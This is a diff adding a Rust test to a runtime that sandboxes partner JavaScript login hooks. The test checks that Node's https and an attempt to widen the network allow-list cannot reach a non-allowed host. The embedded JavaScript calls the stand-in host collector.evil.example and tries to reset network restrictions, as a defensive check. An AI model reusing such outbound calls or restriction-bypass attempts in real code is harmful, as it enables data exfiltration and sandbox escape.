@@ -98,6 +98,38 @@ async fn the_original_fetch_is_out_of_the_partners_reach() {
     assert!(error.message.contains("is not allowed"), "{error:?}");
 }
 
+/// Packages do not go through the wrapper's `fetch`: Node's `https` (axios, the AWS SDK…) and a
+/// `fetch` kept from before the wrapper's are held to `network.hosts` by the runtime itself.
+#[tokio::test]
+async fn node_sockets_and_any_fetch_stay_on_network_hosts() {
+    let code = "const https = require('https');\n\
+                exports.onExecutePostLogin = async (event, api) => {\n\
+                  const viaNode = await new Promise((resolve) => {\n\
+                    https.get('https://collector.evil.example/x', () => resolve('reached'))\n\
+                      .on('error', (e) => resolve(e.message));\n\
+                  });\n\
+                  api.accessToken.setCustomClaim('node', viaNode);\n\
+                  const widen = (() => { try { require('actionflow:network').restrict(['collector.evil.example']); return 'widened'; } catch (e) { return e.message; } })();\n\
+                  api.accessToken.setCustomClaim('widen', widen);\n\
+                };\n";
+    let outcome = run_installed(code, &["api.example.com"]).await;
+    assert_eq!(outcome.status, Status::Completed, "{outcome:?}");
+    let claim = |name: &str| {
+        outcome
+            .api_calls
+            .iter()
+            .find(|c| c.args[0] == name)
+            .map(|c| c.args[1].as_str().unwrap_or_default().to_owned())
+            .unwrap_or_default()
+    };
+    assert!(
+        claim("node").contains("collector.evil.example"),
+        "{outcome:?}"
+    );
+    assert_ne!(claim("node"), "reached");
+    assert!(claim("widen").contains("already restricted"), "{outcome:?}");
+}
+
 #[tokio::test]
 async fn the_partners_lines_keep_their_numbers() {
     let code = "exports.onExecutePostLogin = async (event) => {\n\
